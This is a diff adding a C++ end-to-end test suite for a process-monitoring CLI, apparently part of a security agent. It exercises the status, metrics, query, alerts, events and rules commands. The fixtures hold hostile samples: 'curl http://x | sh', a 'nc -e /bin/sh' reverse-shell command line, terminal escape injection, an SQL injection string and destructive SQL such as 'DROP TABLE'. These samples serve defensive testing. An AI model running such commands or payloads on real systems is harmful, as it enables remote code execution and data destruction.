@@ -1,0 +1,472 @@
+// daemoneye-cli end to end: the real binary (DAEMONEYE_CLI_BIN) against a
+// real store made through the library (Store::open, append_events,
+// insert_alerts), real status files (write_status_file) naming real live and
+// dead processes, real rule files, and at the end a real running agent.
+
+#include "harness.hpp"
+
+#include <airssys/daemoneye/agent_status.hpp>
+#include <airssys/daemoneye/store.hpp>
+#include <airssys/osl/proc.hpp>
+
+#include <fmt/format.h>
+#include <nlohmann/json.hpp>
+
+#include <sys/stat.h>
+
+#include <ctime>
+#include <map>
+#include <regex>
+#include <set>
+
+namespace detest {
+namespace {
+
+namespace de = airssys::daemoneye;
+
+std::string cli_bin() { return env_or_empty("DAEMONEYE_CLI_BIN"); }
+
+struct Outcome {
+  int code = -1;
+  std::string out, err;
+};
+
+std::int64_t now() { return static_cast<std::int64_t>(::time(nullptr)); }
+
+class Cli : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ASSERT_FALSE(cli_bin().empty()) << "DAEMONEYE_CLI_BIN is not set: run this test through ctest";
+    fs::create_directories(var_);
+    ::chmod(var_.c_str(), 0700);
+  }
+
+  Outcome cli(std::vector<std::string> args) const {
+    args.insert(args.begin(), cli_bin());
+    const fs::path out = dir_.path / "cli.out", err = dir_.path / "cli.err";
+    fs::remove(out);
+    fs::remove(err);
+    Child c(args, out, err);
+    auto rc = c.wait(60s);
+    return {rc.value_or(-1), slurp(out), slurp(err)};
+  }
+  Outcome cli_db(std::vector<std::string> args) const {
+    args.insert(args.begin(), {"--db", db_.string()});
+    return cli(std::move(args));
+  }
+
+  // A status as the agent writes it, naming this test process (alive, with its real start ticks).
+  de::AgentStatus live_status() const {
+    de::AgentStatus s;
+    s.pid = ::getpid();
+    s.start_ticks = airssys::osl::proc::read_stat(::getpid())->starttime;
+    s.version = "0.1.0";
+    s.host = "test-host";
+    s.started_at = now() - 3600;
+    s.updated_at = now();
+    s.database = db_.string();
+    s.scan_interval_ms = 1000;
+    s.write_interval_ms = 1000;
+    s.rules = {.loaded = 5, .enabled = 4, .rejected_count = 1,
+               .rejected = {{"/r/bad.yaml", "/r/bad.yaml:3: severity 'extreme' is not one of low, medium, high, critical"}},
+               .failing = {"slow-rule"}};
+    s.scans = 42;
+    s.last_scan = de::LastScan{.time = now() - 1, .scan_id = 41, .processes = 321, .unreadable = 2,
+                               .collect_us = 40000, .store_us = 3000, .rules_us = 7000, .alerts = 1, .rule_errors = 1};
+    s.alerts = {.raised = 7, .deduplicated = 30, .rate_limited = 2, .sink_errors = 1};
+    s.procmond = {.running = true, .pid = 99999, .exits = 3, .crashes = 2};
+    de::ProcmondStatus p;
+    p.time = now();
+    p.pid = 99999;
+    p.tier = de::EventSource::proc_connector;
+    p.tier_reason = "eBPF: \x1b[31mverifier rejected exec program";
+    p.scans = 41;
+    p.budget_per_second = 5000;
+    p.sources[0] = {.events = 11, .dropped = 0, .lost = 0};
+    p.sources[1] = {.events = 900, .dropped = 40, .lost = 3};
+    s.procmond_status = p;
+    s.procmond_status_received = now();
+    return s;
+  }
+  void write_status(const de::AgentStatus& s) const {
+    auto w = de::write_status_file(de::status_file_for(db_), s);
+    ASSERT_TRUE(w) << w.error();
+  }
+
+  void make_store() {
+    auto store = de::Store::open({.path = db_});
+    ASSERT_TRUE(store) << store.error();
+    std::vector<de::ProcessEvent> events;
+    auto record = [](std::int64_t pid, const std::string& name, const std::string& cmdline) {
+      de::ProcessRecord r;
+      r.pid = pid;
+      r.parent = 1;
+      r.name = name;
+      r.path = "/usr/bin/" + name;
+      r.cmdline = cmdline;
+      r.uid = 0;
+      r.username = "root";
+      r.start_time = now() - 10;
+      return r;
+    };
+    events.push_back({de::EventKind::start, de::EventSource::ebpf, now() - 5, record(4100, "curl", "curl http://x | sh")});
+    events.push_back({de::EventKind::exec, de::EventSource::ebpf, now() - 4,
+                      record(4101, "evil", "evil \x1b[2J\x1b[31mred")});
+    events.push_back({de::EventKind::stop, de::EventSource::poll, now() - 3, record(4100, "curl", "curl http://x | sh")});
+    events.push_back({de::EventKind::start, de::EventSource::poll, now() - 3 * 86400, record(4100, "old", "old")});
+    auto a = (*store)->append_events(events);
+    ASSERT_TRUE(a) << a.error();
+    std::vector<de::Alert> alerts;
+    alerts.push_back({.rule_id = "exec-from-tmp", .rule_name = "Executable under /tmp", .severity = de::Severity::medium,
+                      .tags = {"attack.t1105"}, .row_json = R"({"pid":4100,"path":"/tmp/x"})", .host = "h",
+                      .time = now() - 60, .dedup_key = "exec-from-tmp|pid=4100"});
+    alerts.push_back({.rule_id = "reverse-shell", .rule_name = "Reverse shell", .severity = de::Severity::critical,
+                      .tags = {"t1059"}, .row_json = R"({"pid":4101,"cmdline":"nc -e /bin/sh"})", .host = "h",
+                      .time = now() - 30, .dedup_key = "reverse-shell|pid=4101"});
+    alerts.push_back({.rule_id = "exe-deleted", .rule_name = "Old one", .severity = de::Severity::high, .tags = {},
+                      .row_json = R"({"pid":1})", .host = "h", .time = now() - 2 * 86400, .dedup_key = "exe-deleted|pid=1"});
+    auto i = (*store)->insert_alerts(alerts);
+    ASSERT_TRUE(i) << i.error();
+  }
+
+  TempDir dir_;
+  fs::path var_ = dir_.path / "var";
+  fs::path db_ = var_ / "daemoneye.db";
+};
+
+bool has(const std::string& text, const std::string& what) { return text.find(what) != std::string::npos; }
+
+TEST_F(Cli, VersionAndUsage) {
+  Outcome r = cli({"--version"});
+  EXPECT_EQ(r.code, 0);
+  EXPECT_EQ(r.out, "daemoneye-cli 0.1.0\n");
+  EXPECT_EQ(cli({}).code, 2);
+  EXPECT_EQ(cli({"frobnicate"}).code, 2);
+  EXPECT_EQ(cli({"query"}).code, 2);  // the SQL is required
+  Outcome bad = cli_db({"alerts", "--since", "10"});
+  EXPECT_EQ(bad.code, 2);
+  EXPECT_TRUE(has(bad.err, "--since 10: duration '10' needs a unit")) << bad.err;
+  Outcome inj = cli_db({"alerts", "--rule", "x' OR 1=1 --"});
+  EXPECT_EQ(inj.code, 2);
+  EXPECT_TRUE(has(inj.err, "a rule id holds only letters, digits")) << inj.err;
+}
+
+TEST_F(Cli, StatusWithoutAStatusFileSaysNotRunning) {
+  Outcome r = cli_db({"status"});
+  EXPECT_EQ(r.code, 1);
+  EXPECT_TRUE(has(r.out, "not_running — no status file at " + de::status_file_for(db_).string())) << r.out;
+  Outcome j = cli_db({"status", "--json"});
+  EXPECT_EQ(j.code, 1);
+  auto doc = nlohmann::json::parse(j.out);
+  EXPECT_EQ(doc["agent"]["state"], "not_running");
+  EXPECT_TRUE(doc["status"].is_null());
+  Outcome m = cli_db({"metrics"});
+  EXPECT_EQ(m.code, 0);
+  EXPECT_TRUE(has(m.out, "\ndaemoneye_agent_up 0\n")) << m.out;
+}
+
+TEST_F(Cli, StatusOfARunningAgentShowsItsCountersTierAndDrops) {
+  write_status(live_status());
+  Outcome r = cli_db({"status"});
+  EXPECT_EQ(r.code, 0) << r.out << r.err;
+  EXPECT_TRUE(has(r.out, fmt::format("agent:     running — the agent (pid {}) is running", ::getpid()))) << r.out;
+  EXPECT_TRUE(has(r.out, "scans:     42 stored")) << r.out;
+  EXPECT_TRUE(has(r.out, "321 processes (2 partly unreadable)")) << r.out;
+  EXPECT_TRUE(has(r.out, "rules:     5 loaded, 4 enabled, 1 rejected, 1 failing")) << r.out;
+  EXPECT_TRUE(has(r.out, "rejected: /r/bad.yaml:3: severity 'extreme'")) << r.out;
+  EXPECT_TRUE(has(r.out, "failing at run time: slow-rule")) << r.out;
+  EXPECT_TRUE(has(r.out, "alerts:    7 raised, 30 deduplicated, 2 rate-limited, 1 sink errors")) << r.out;
+  EXPECT_TRUE(has(r.out, "procmond:  running (pid 99999), 2 crashes")) << r.out;
+  // The tier and why, with the escape byte from procmond's text made inert.
+  EXPECT_TRUE(has(r.out, "tier proc_connector — eBPF: ?[31mverifier rejected exec program")) << r.out;
+  EXPECT_FALSE(has(r.out, "\x1b")) << "an escape byte reached the terminal";
+  EXPECT_TRUE(std::regex_search(r.out, std::regex("proc_connector +900 +40 +3"))) << r.out;
+
+  Outcome j = cli_db({"status", "--json"});
+  EXPECT_EQ(j.code, 0);
+  auto doc = nlohmann::json::parse(j.out);
+  EXPECT_EQ(doc["agent"]["state"], "running");
+  EXPECT_EQ(doc["status"]["procmond"]["status"]["tier"], "proc_connector");
+  EXPECT_EQ(doc["status"]["procmond"]["status"]["sources"]["proc_connector"]["dropped"], 40);
+  EXPECT_EQ(doc["status"]["scans"]["done"], 42);
+}
+
+TEST_F(Cli, StatusTellsStoppedCrashedRecycledAndStaleApart) {
+  de::AgentStatus s = live_status();
+  s.state = de::AgentState::stopped;
+  write_status(s);
+  Outcome r = cli_db({"status"});
+  EXPECT_EQ(r.code, 1);
+  EXPECT_TRUE(has(r.out, "stopped — the agent")) << r.out;
+  EXPECT_TRUE(has(r.out, "stopped cleanly")) << r.out;
+
+  // A process that has exited and been reaped: its pid is gone.
+  pid_t gone = 0;
+  {
+    Child c({"/bin/true"});
+    gone = c.pid();
+    ASSERT_TRUE(c.wait().has_value());
+  }
+  s = live_status();
+  s.pid = gone;
+  s.start_ticks = 1;
+  write_status(s);
+  r = cli_db({"status"});
+  EXPECT_EQ(r.code, 1);
+  EXPECT_TRUE(has(r.out, fmt::format("not_running — the agent (pid {}) is not running: it did not stop cleanly", gone)))
+      << r.out;
+
+  // Our pid, but other start ticks: the pid was recycled.
+  s = live_status();
+  s.start_ticks += 12345;
+  write_status(s);
+  r = cli_db({"status", "--json"});
+  EXPECT_EQ(r.code, 1);
+  EXPECT_EQ(nlohmann::json::parse(r.out)["agent"]["state"], "not_running");
+
+  s = live_status();
+  s.updated_at = now() - 600;
+  write_status(s);
+  r = cli_db({"status"});
+  EXPECT_EQ(r.code, 1);
+  EXPECT_TRUE(has(r.out, "stale — the agent")) << r.out;
+  EXPECT_TRUE(has(r.out, "stale after 13 s")) << r.out;
+  Outcome m = cli_db({"metrics"});
+  EXPECT_TRUE(has(m.out, "\ndaemoneye_agent_up 0\n")) << m.out;
+}
+
+TEST_F(Cli, ACorruptStatusFileIsNamedWithTheField) {
+  write_file(de::status_file_for(db_), R"({"format":1,"state":"dancing"})");
+  Outcome r = cli_db({"status"});
+  EXPECT_EQ(r.code, 1);
+  EXPECT_EQ(r.err, "daemoneye-cli: " + de::status_file_for(db_).string() +
+                       ": agent_status.state: unknown state 'dancing' (known: running, stopped)\n");
+  EXPECT_EQ(cli_db({"metrics"}).code, 1);
+}
+
+// Every sample belongs to a family announced by one HELP and one TYPE line
+// before it; counters end in _total; the values are the status file's.
+TEST_F(Cli, MetricsAreValidPrometheusText) {
+  write_status(live_status());
+  Outcome r = cli_db({"metrics"});
+  ASSERT_EQ(r.code, 0) << r.err;
+  std::map<std::string, std::string> type_of;
+  std::set<std::string> helped;
+  std::map<std::string, std::string> samples;
+  std::istringstream in(r.out);
+  const std::regex sample_re(R"(^([a-z_]+)(\{[a-z_]+="[a-z_]+"\})? (-?[0-9.e+-]+)$)");
+  for (std::string line; std::getline(in, line);) {
+    std::smatch m;
+    if (line.starts_with("# HELP ")) {
+      const auto name = line.substr(7, line.find(' ', 7) - 7);
+      EXPECT_TRUE(helped.insert(name).second) << "two HELP lines for " << name;
+    } else if (line.starts_with("# TYPE ")) {
+      std::istringstream t(line.substr(7));
+      std::string name, type;
+      t >> name >> type;
+      EXPECT_TRUE(type == "counter" || type == "gauge") << line;
+      EXPECT_TRUE(type_of.emplace(name, type).second) << "two TYPE lines for " << name;
+      if (type == "counter") {
+        EXPECT_TRUE(name.ends_with("_total")) << name;
+      }
+    } else if (std::regex_match(line, m, sample_re)) {
+      EXPECT_TRUE(type_of.contains(m[1]) && helped.contains(m[1])) << "no HELP/TYPE before " << line;
+      samples[m[1].str() + m[2].str()] = m[3];
+    } else {
+      ADD_FAILURE() << "not exposition format: " << line;
+    }
+  }
+  EXPECT_EQ(samples["daemoneye_agent_up"], "1");
+  EXPECT_EQ(samples["daemoneye_scans_total"], "42");
+  EXPECT_EQ(samples[R"(daemoneye_alerts_total{outcome="raised"})"], "7");
+  EXPECT_EQ(samples[R"(daemoneye_alerts_total{outcome="deduplicated"})"], "30");
+  EXPECT_EQ(samples[R"(daemoneye_alerts_total{outcome="rate_limited"})"], "2");
+  EXPECT_EQ(samples["daemoneye_procmond_restarts_total"], "2");
+  EXPECT_EQ(samples[R"(daemoneye_event_tier{tier="proc_connector"})"], "1");
+  EXPECT_EQ(samples[R"(daemoneye_event_tier{tier="ebpf"})"], "0");
+  EXPECT_EQ(samples[R"(daemoneye_events_total{source="proc_connector"})"], "900");
+  EXPECT_EQ(samples[R"(daemoneye_events_dropped_total{source="proc_connector"})"], "40");
+  EXPECT_EQ(samples[R"(daemoneye_events_lost_total{source="proc_connector"})"], "3");
+  EXPECT_EQ(samples[R"(daemoneye_last_scan_duration_seconds{phase="collect"})"], "0.04");
+}
+
+TEST_F(Cli, QueryRunsUnderTheRulesGuard) {
+  make_store();
+  Outcome t = cli_db({"query", "SELECT id, rule_id, severity FROM alerts ORDER BY id"});
+  EXPECT_EQ(t.code, 0) << t.err;
+  EXPECT_EQ(t.out,
+            "id  rule_id        severity\n"
+            " 1  exec-from-tmp  medium\n"
+            " 2  reverse-shell  critical\n"
+            " 3  exe-deleted    high\n");
+  Outcome c = cli_db({"query", "SELECT rule_id, row FROM alerts WHERE id = 2", "--format", "csv"});
+  EXPECT_EQ(c.code, 0);
+  EXPECT_EQ(c.out, "rule_id,row\r\nreverse-shell,\"{\"\"pid\"\":4101,\"\"cmdline\"\":\"\"nc -e /bin/sh\"\"}\"\r\n");
+  Outcome j = cli_db({"query", "SELECT pid, name, NULL AS missing FROM process_events ORDER BY id LIMIT 1", "--format", "json"});
+  EXPECT_EQ(j.code, 0);
+  EXPECT_EQ(nlohmann::json::parse(j.out), nlohmann::json::parse(R"([{"pid":4100,"name":"curl","missing":null}])"));
+
+  const std::vector<std::pair<std::string, std::string>> refused = {
+      {"DELETE FROM alerts", "not allowed: DELETE from alerts"},
+      {"ATTACH DATABASE '/tmp/x.db' AS x", "not allowed: ATTACH"},
+      {"PRAGMA journal_mode = DELETE", "not allowed: PRAGMA journal_mode"},
+      {"SELECT 1; DROP TABLE alerts", "only one statement per query"},
+      {"SELECT name FROM sqlite_master", "not allowed: read of table sqlite_master"},
+      {"SELECT foo FROM processes", "no such column: foo"},
+  };
+  for (const auto& [sql, why] : refused) {
+    Outcome r = cli_db({"query", sql});
+    EXPECT_EQ(r.code, 1) << sql;
+    EXPECT_TRUE(has(r.err, "daemoneye-cli: query refused: " + why)) << sql << ": " << r.err;
+  }
+  Outcome count = cli_db({"query", "SELECT count(*) AS n FROM alerts", "--format", "csv"});
+  EXPECT_EQ(count.out, "n\r\n3\r\n") << "a refused query changed the store";
+
+  Outcome cut = cli_db({"query", "SELECT id FROM alerts ORDER BY id", "--max-rows", "2", "--format", "csv"});
+  EXPECT_EQ(cut.code, 0);
+  EXPECT_EQ(cut.out, "id\r\n1\r\n2\r\n");
+  EXPECT_TRUE(has(cut.err, "result cut after 2 rows")) << cut.err;
+
+  Outcome slow = cli_db({"query", "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT count(*) FROM c",
+                     "--timeout", "200ms"});
+  EXPECT_EQ(slow.code, 1);
+  EXPECT_TRUE(has(slow.err, "time limit exceeded (200 ms)")) << slow.err;
+
+  Outcome missing = cli({"--db", (dir_.path / "nope.db").string(), "query", "SELECT 1"});
+  EXPECT_EQ(missing.code, 1);
+  EXPECT_TRUE(has(missing.err, (dir_.path / "nope.db").string())) << missing.err;
+}
+
+TEST_F(Cli, AlertsAreListedOldestFirstAndFiltered) {
+  make_store();
+  Outcome r = cli_db({"alerts"});
+  EXPECT_EQ(r.code, 0) << r.err;
+  std::vector<std::string> lines;
+  std::istringstream in(r.out);
+  for (std::string l; std::getline(in, l);) lines.push_back(l);
+  ASSERT_EQ(lines.size(), 2u) << r.out;  // the 2-day-old one is outside the default 24h
+  EXPECT_TRUE(has(lines[0], "MEDIUM exec-from-tmp Executable under /tmp pid=4100 path=/tmp/x")) << lines[0];
+  EXPECT_TRUE(has(lines[1], "CRITICAL reverse-shell Reverse shell pid=4101")) << lines[1];
+
+  const std::string three = cli_db({"alerts", "--since", "3d"}).out;
+  EXPECT_EQ(std::count(three.begin(), three.end(), '\n'), 3) << three;
+  Outcome one = cli_db({"alerts", "--rule", "reverse-shell", "--json"});
+  EXPECT_EQ(one.code, 0);
+  auto doc = nlohmann::json::parse(one.out);
+  ASSERT_EQ(doc.size(), 1u);
+  EXPECT_EQ(doc[0]["rule_id"], "reverse-shell");
+  EXPECT_EQ(doc[0]["severity"], "critical");
+  EXPECT_EQ(doc[0]["tags"], nlohmann::json::array({"t1059"}));
+  EXPECT_EQ(doc[0]["row"]["cmdline"], "nc -e /bin/sh");
+  Outcome limited = cli_db({"alerts", "--since", "3d", "--limit", "1", "--json"});
+  ASSERT_EQ(nlohmann::json::parse(limited.out).size(), 1u);
+  EXPECT_EQ(nlohmann::json::parse(limited.out)[0]["rule_id"], "reverse-shell");  // the newest
+}
+
+TEST_F(Cli, EventsAreListedWithHostileTextMadeInert) {
+  make_store();
+  Outcome r = cli_db({"events"});
+  EXPECT_EQ(r.code, 0) << r.err;
+  EXPECT_TRUE(has(r.out, "TIME")) << r.out;
+  EXPECT_TRUE(std::regex_search(r.out, std::regex("start +ebpf +4100 +1 +root +curl +curl http://x \\| sh"))) << r.out;
+  EXPECT_TRUE(has(r.out, "evil ?[2J?[31mred")) << r.out;
+  EXPECT_FALSE(has(r.out, "\x1b"));
+  EXPECT_FALSE(has(r.out, " old")) << "a 3-day-old event is outside the default 24h";
+  Outcome pid = cli_db({"events", "--pid", "4101", "--json"});
+  EXPECT_EQ(pid.code, 0);
+  auto doc = nlohmann::json::parse(pid.out);
+  ASSERT_EQ(doc.size(), 1u);
+  EXPECT_EQ(doc[0]["event"], "exec");
+  EXPECT_EQ(doc[0]["source"], "ebpf");
+  EXPECT_EQ(doc[0]["cmdline"], "evil \x1b[2J\x1b[31mred");  // JSON keeps the text (escaped)
+  Outcome all = cli_db({"events", "--since", "7d", "--pid", "4100", "--json"});
+  EXPECT_EQ(nlohmann::json::parse(all.out).size(), 3u);
+}
+
+TEST_F(Cli, RulesAreCheckedAsTheAgentLoadsThem) {
+  const fs::path rules = dir_.path / "rules";
+  fs::create_directories(rules);
+  ::chmod(rules.c_str(), 0700);
+  write_file(rules / "good.yaml", "id: good\nname: Good\nseverity: low\nquery: SELECT pid, start_time FROM processes\n");
+  Outcome ok = cli({"rules", "check", (rules / "good.yaml").string()});
+  EXPECT_EQ(ok.code, 0) << ok.err;
+  EXPECT_TRUE(has(ok.out, "ok  " + (rules / "good.yaml").string() + ": good (low)")) << ok.out;
+
+  write_file(rules / "sql.yaml", "id: sql\nname: S\nseverity: low\nquery: SELECT pid FROM processes; DELETE FROM alerts\n");
+  write_file(rules / "yaml.yaml", "id: y\nname: Y\nseverity: extreme\nquery: SELECT 1\n");
+  Outcome dir = cli({"rules", "check", rules.string()});
+  EXPECT_EQ(dir.code, 1);
+  EXPECT_TRUE(has(dir.out, "good (low)")) << dir.out;
+  EXPECT_TRUE(has(dir.err, (rules / "sql.yaml").string() + ":4: query refused: only one statement per query")) << dir.err;
+  EXPECT_TRUE(has(dir.err, (rules / "yaml.yaml").string() + ":3: severity 'extreme' is not one of")) << dir.err;
+  EXPECT_TRUE(has(dir.err, "1 rule valid, 2 rejected")) << dir.err;
+
+  Outcome bundled = cli({"rules", "check", env_or_empty("AIRSSYS_SOURCE_DIR") + "/daemoneye/rules"});
+  EXPECT_EQ(bundled.code, 0) << bundled.err;
+  EXPECT_TRUE(has(bundled.err, "6 rules valid, 0 rejected")) << bundled.err;
+
+  // rules list reads rules.dir from the configuration, as the agent does.
+  const fs::path config = dir_.path / "config.yaml";
+  write_file(config, fmt::format("database: {{ path: {} }}\nrules: {{ dir: {} }}\n", db_.string(), rules.string()));
+  Outcome list = cli({"--config", config.string(), "rules", "list"});
+  EXPECT_EQ(list.code, 1);  // two files the agent would reject
+  EXPECT_TRUE(std::regex_search(list.out, std::regex("good +low +yes +Good +good.yaml"))) << list.out;
+  Outcome json = cli({"--config", config.string(), "rules", "list", "--json"});
+  auto doc = nlohmann::json::parse(json.out);
+  EXPECT_EQ(doc["rules"].size(), 1u);
+  EXPECT_EQ(doc["rejected"].size(), 2u);
+}
+
+TEST_F(Cli, TheStoreIsFoundThroughTheAgentsConfigLayers) {
+  write_status(live_status());
+  const fs::path config = dir_.path / "config.yaml";
+  write_file(config, fmt::format("database: {{ path: {} }}\n", db_.string()));
+  EXPECT_EQ(cli({"--config", config.string(), "status"}).code, 0);
+  write_file(config, "database: { pathh: x }\n");
+  Outcome bad = cli({"--config", config.string(), "status"});
+  EXPECT_EQ(bad.code, 2);
+  EXPECT_TRUE(has(bad.err, config.string() + ":1: unknown key 'pathh' in database")) << bad.err;
+  ::setenv("DAEMONEYE_DATABASE_PATH", db_.c_str(), 1);
+  Outcome env = cli({"status"});
+  ::unsetenv("DAEMONEYE_DATABASE_PATH");
+  EXPECT_EQ(env.code, 0) << env.out << env.err;
+}
+
+// The real agent: while it runs, `status` says so with procmond's pid and a
+// fresh status; after SIGTERM it says stopped.
+TEST_F(Cli, ARunningAgentShowsThroughStatus) {
+  if (agent_bin().empty()) GTEST_SKIP() << "DAEMONEYE_AGENT_BIN is not set";
+  const fs::path rules = dir_.path / "rules";
+  fs::create_directories(rules);
+  ::chmod(rules.c_str(), 0700);
+  write_file(rules / "r.yaml", "id: r\nname: R\nseverity: low\nquery: SELECT pid, start_time FROM processes WHERE 0\n");
+  const fs::path config = dir_.path / "config.yaml";
+  write_file(config, fmt::format("database: {{ path: {} }}\nscan: {{ interval: 500ms }}\nrules: {{ dir: {} }}\n"
+                                 "alerts: {{ sinks: [] }}\n",
+                                 db_.string(), rules.string()));
+  const fs::path log = dir_.path / "agent.log";
+  Child agent({agent_bin(), "--config", config.string()}, log, log);
+  Outcome r;
+  ASSERT_TRUE(eventually([&] {
+    r = cli({"--config", config.string(), "status", "--json"});
+    if (r.code != 0) return false;
+    auto doc = nlohmann::json::parse(r.out, nullptr, false);
+    return !doc.is_discarded() && doc["status"]["scans"]["done"].get<int>() >= 1 &&
+           doc["status"]["procmond"]["running"].get<bool>();
+  })) << r.out << r.err << slurp(log);
+  auto doc = nlohmann::json::parse(r.out);
+  EXPECT_EQ(doc["status"]["pid"], agent.pid());
+  EXPECT_EQ(doc["status"]["rules"]["loaded"], 1);
+  EXPECT_GT(doc["status"]["procmond"]["pid"].get<int>(), 0);
+  EXPECT_EQ(doc["status"]["scan_interval_ms"], 500);
+
+  agent.signal(SIGTERM);
+  ASSERT_EQ(agent.wait(), std::optional<int>(0)) << slurp(log);
+  Outcome after = cli({"--config", config.string(), "status"});
+  EXPECT_EQ(after.code, 1);
+  EXPECT_TRUE(has(after.out, "stopped — the agent")) << after.out;
+  EXPECT_TRUE(has(after.out, "procmond:  not running")) << after.out;
+}
+
+}  // namespace
+}  // namespace detest
